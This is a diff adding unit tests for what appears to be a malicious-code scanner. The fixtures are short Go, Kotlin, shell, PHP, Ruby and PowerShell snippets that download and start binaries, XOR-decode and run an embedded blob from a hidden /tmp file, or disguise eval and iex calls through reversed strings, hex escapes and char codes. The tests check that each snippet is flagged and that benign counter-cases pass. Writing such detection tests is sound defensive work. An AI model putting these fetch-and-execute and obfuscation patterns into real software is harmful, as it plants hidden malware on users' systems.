@@ -630,3 +630,53 @@ test('projects of .NET and recipes of CMake run what no build needs', () => {
   assert.deepEqual(cmake(`file(DOWNLOAD "https://c.acme.io/a" "\${D}/agent")\n${started}`), ['dropped-execution']);
   assert.deepEqual(cmake(`file(DOWNLOAD "https://c.acme.io/a" "\${D}/agent" EXPECTED_HASH SHA256=1)\n${started}`), []);
 });
+
+test('a file that is fetched under its own name, into a temporary one or out of a picture is started', () => {
+  const go = (code: string) => kinds(code, 'go', 'a.go');
+  assert.deepEqual(
+    go(
+      'r, _ := http.Get("https://c.acme.io/a")\nf, _ := os.CreateTemp("", "x")\nio.Copy(f, r.Body)\nexec.Command(f.Name()).Start()\n',
+    ),
+    ['dropped-execution'],
+  );
+  assert.deepEqual(
+    go(
+      'for i := range logo { logo[i] ^= 0x41 }\nos.WriteFile("/tmp/.logo", logo, 0o755)\nexec.Command("/tmp/.logo").Start()\n',
+    ),
+    ['dropped-execution'],
+  );
+  assert.deepEqual(go('f, _ := os.CreateTemp("", "x")\nf.Write(text)\nexec.Command("vi", f.Name()).Run()\n'), []);
+  assert.deepEqual(
+    kinds(
+      'val out = File(dir, "a")\nout.writeBytes(URL("https://c.acme.io/a").readBytes())\nProcessBuilder(out.path).start()\n',
+      'kotlin',
+      'build.gradle.kts',
+    ),
+    ['dropped-execution'],
+  );
+  const shell = (code: string) => kinds(code, 'shell', 'install.sh');
+  assert.deepEqual(shell('wget -q https://c.acme.io/agent && chmod 755 agent && nohup ./agent\n'), [
+    'dropped-execution',
+  ]);
+  assert.deepEqual(shell('wget -q https://c.acme.io/data.tar && tar xf data.tar\n'), []);
+});
+
+test('names of functions that are spelled in escapes, backwards or as numbers are a disguise', () => {
+  assert.deepEqual(kinds("<?php\n$a = strrev('edoced_46esab');\neval($a('cGhwaW5mbygpOw=='));\n", 'php', 'a.php'), [
+    'decoded-execution',
+  ]);
+  assert.deepEqual(
+    kinds(
+      '<?php\n$g = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";\n$h = $g("cGhwaW5mbygpOw==");\neval($h);\n',
+      'php',
+      'a.php',
+    ),
+    ['decoded-execution'],
+  );
+  assert.deepEqual(kinds("code = URI.open('https://c.acme.io/a.rb').read\ninstance_eval code\n", 'ruby', 'a.rb'), [
+    'remote-execution',
+  ]);
+  assert.deepEqual(kinds('$s = -join ((105,101,120) | % { [char]$_ })\niex $s\n', 'powershell', 'a.ps1'), [
+    'disguised-call',
+  ]);
+});
